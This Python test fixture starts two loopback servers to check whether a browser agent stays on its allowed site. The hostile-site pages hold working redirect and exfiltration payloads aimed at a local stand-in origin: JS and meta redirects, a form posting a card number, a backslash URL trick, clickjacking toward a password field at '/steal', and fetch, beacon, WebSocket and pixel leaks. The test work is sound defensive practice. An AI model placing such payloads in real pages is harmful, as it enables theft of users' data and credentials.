"""Two loopback servers for hostile-page tests: a `RecordingServer` (the "other site") that
records every request that reaches it, and the hostile site itself, whose pages try to take
the browser (and typed secrets) to the other site."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable
from dataclasses import dataclass, field


@dataclass
class Hit:
    """One request that reached a server."""

    method: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)


class Server:
    def __init__(self, respond: Callable[[Hit], tuple[int, dict[str, str], bytes]]) -> None:
        self.hits: list[Hit] = []
        hits, lock = self.hits, threading.Lock()

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                hit = Hit(self.command, self.path, self.rfile.read(length), dict(self.headers))
                with lock:
                    hits.append(hit)
                status, headers, body = respond(hit)
                self.send_response(status)
                for name, value in {"Content-Type": "text/html", **headers}.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = _any

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


OTHER_FIELD = """<!doctype html><title>Other site</title>
<form method="post" action="/steal"><input name="pw" id="pw" autofocus
 style="width:900px;height:600px;font-size:40px"></form>"""


class RecordingServer(Server):
    """The other site: answers every request, remembers each one in `hits`."""

    def __init__(self) -> None:
        super().__init__(self._respond)

    def _respond(self, hit: Hit) -> tuple[int, dict[str, str], bytes]:
        body = OTHER_FIELD if hit.path.startswith("/field") else "<title>Other</title>other"
        return 200, {}, body.encode()


def hostile_pages(other: str, home_port: int) -> dict[str, str]:
    """The hostile site's pages (path -> HTML); `other` is the other site's origin."""
    big = "display:block;width:900px;height:500px;font-size:40px"
    return {
        "/js.html": f"""<title>JS</title><button id="go" style="{big}"
            onclick="location='{other}/via/js?d=acct-7731'">Go</button>""",
        "/form.html": f"""<title>Form</title><form method="post" action="{other}/collect">
            <input name="card" value="4111-1111-1111-1111">
            <button id="go" style="{big}">Pay</button></form>""",
        "/meta.html": f"""<title>Meta</title>
            <meta http-equiv="refresh" content="0;url={other}/meta">waiting""",
        "/frame.html": """<title>Frame</title>
            <iframe id="go" src="/inner.html" style="width:900px;height:500px"></iframe>""",
        "/inner.html": f"""<a href="{other}/from-frame" style="{big}">in a frame</a>""",
        "/blank.html": f"""<title>Blank</title>
            <a id="go" target="_blank" href="{other}/popup" style="{big}">new tab</a>""",
        "/redirect.html": f"""<title>Redirect</title>
            <a id="go" href="/redirect" style="{big}">redirect</a>""",
        "/backslash.html": f"""<title>Backslash</title><a id="go" style="{big}"
            href="http://localhost:{other.rsplit(":", 1)[1]}\\@127.0.0.1:{home_port}/steal"
            >backslash</a>""",
        "/clickjack.html": f"""<title>Login</title>
            <input id="go" style="{big}" onmousedown="location='{other}/field'">""",
        "/leaky.html": f"""<title>Leaky</title><p id="go" style="{big}">images</p>
            <img src="{other}/img.png">
            <script>
              fetch("{other}/fetch").catch(() => {{}});
              navigator.sendBeacon("{other}/beacon", "x");
              try {{ new WebSocket("ws://127.0.0.1:{other.rsplit(":", 1)[1]}/ws"); }}
              catch (e) {{}}
              new Image().src = "{other}/pixel?" + document.title;
            </script>""",
        "/search.html": """<title>Search</title>
            <form method="get" action="/results"><input id="go" name="q"
             style="width:900px;height:300px;font-size:40px"></form>""",
    }


class HostileSite(Server):
    """The site the agent is allowed on; its pages point at `other`."""

    def __init__(self, other: RecordingServer) -> None:
        self.pages: dict[str, str] = {}
        self.other = other
        super().__init__(self._respond)
        self.pages = hostile_pages(other.origin, self.port)

    def _respond(self, hit: Hit) -> tuple[int, dict[str, str], bytes]:
        path = hit.path.split("?", 1)[0]
        if path == "/redirect":
            return 302, {"Location": f"{self.other.origin}/redirected"}, b""
        if path == "/results":
            return 200, {}, b"<title>Results</title>results"
        page = self.pages.get(path)
        if page is None:
            return 404, {}, b"<title>404</title>not here"
        return 200, {}, page.encode()
